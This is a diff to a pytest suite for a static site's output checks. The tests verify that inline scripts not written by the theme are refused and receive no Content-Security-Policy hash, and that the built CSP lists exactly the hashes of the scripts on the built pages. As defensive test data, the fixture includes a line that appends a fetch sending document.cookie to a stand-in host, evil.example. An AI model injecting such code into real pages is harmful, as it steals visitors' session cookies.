@@ -2,6 +2,10 @@
 built, whatever put it there. Fast tier: HTML written in the test, and the theme's templates rendered."""
 from __future__ import annotations
 
+import base64
+import hashlib
+import re
+from html.parser import HTMLParser
 
 import pytest
 
@@ -106,6 +110,27 @@ def test_csp_hashes_only_the_scripts_our_templates_write(ours, tmp_path):
         inline_script_hashes(tmp_path, ours)
 
 
+# Our own script with attacker code around it: a check that matched only the script's start (re.match), its end,
+# or any part of it (re.search) would let each of these run, and give it a hash in the CSP.
+TAMPERED = {
+    "code appended": THEME_SCOPE.format(base=".") + ";fetch('https://evil.example/?'+document.cookie)",
+    "code appended on a new line": THEME_SCOPE.format(base="..") + "\nalert(1)",
+    "code prepended": "alert(1);" + THEME_SCOPE.format(base="."),
+}
+
+
+@pytest.mark.parametrize("case", sorted(TAMPERED))
+def test_our_script_with_attacker_code_around_it_is_refused_by_the_audit_and_gets_no_hash(ours, case, tmp_path):
+    assert not ours.allows(TAMPERED[case])
+    problems = check_html(page("<script>" + TAMPERED[case] + "</script>"), ours.allows)
+    assert len(problems) == 1 and "an inline script that our templates did not write" in problems[0], problems
+
+    (tmp_path / "en").mkdir()
+    (tmp_path / "en" / "index.html").write_text(page("<script>" + TAMPERED[case] + "</script>"))
+    with pytest.raises(OutputCheckError, match="en/index.html: an inline script that our templates did not write"):
+        inline_script_hashes(tmp_path, ours)
+
+
 def test_search_index_texts_are_checked_as_html(ours, tmp_path):
     site = tmp_path / "site"
     (site / "en" / "search").mkdir(parents=True)
@@ -119,6 +144,41 @@ def test_built_site_passes_the_output_check(built, ours):
                ours.allows)
 
 
-def test_built_csp_file_lists_only_allowed_script_hashes(built, ours):
+class _InlineScripts(HTMLParser):
+    """The text of every <script> without src, read by the standard library's parser (not by the code under test)."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=False)
+        self.sources: list[str] = []
+        self._open: list[str] | None = None
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        if tag == "script" and "src" not in attributes and attributes.get("type") in (None, "", "text/javascript"):
+            self._open = []
+
+    def handle_data(self, data):
+        if self._open is not None:
+            self._open.append(data)
+
+    def handle_endtag(self, tag):
+        if tag == "script" and self._open is not None:
+            self.sources.append("".join(self._open))
+            self._open = None
+
+
+def test_built_csp_file_allows_exactly_the_inline_scripts_of_the_built_pages(built):
+    # The hashes are worked out here, from the pages as built, and compared with the policy's as sets: one hash
+    # too many (an injected script) or too few (a page that would break) fails.
+    expected = set()
+    for path in built.site_dir.rglob("*.html"):
+        parser = _InlineScripts()
+        parser.feed(path.read_text(encoding="utf-8"))
+        expected |= {"sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode()
+                     for source in parser.sources}
     policy = (built.dist_dir / "nginx-csp.conf").read_text(encoding="utf-8")
-    assert policy.count("'sha256-") == len(inline_script_hashes(built.site_dir, ours)) >= 1
+    header = re.search(r'add_header Content-Security-Policy "([^"]+)" always;', policy).group(1)
+    script_src = next(part.split()[1:] for part in header.split("; ") if part.startswith("script-src "))
+    assert expected  # the theme writes inline scripts: an empty set would mean the parser above saw nothing
+    assert script_src == ["'self'", *sorted(f"'{digest}'" for digest in expected)]
+    assert header.startswith("default-src 'none'; ")
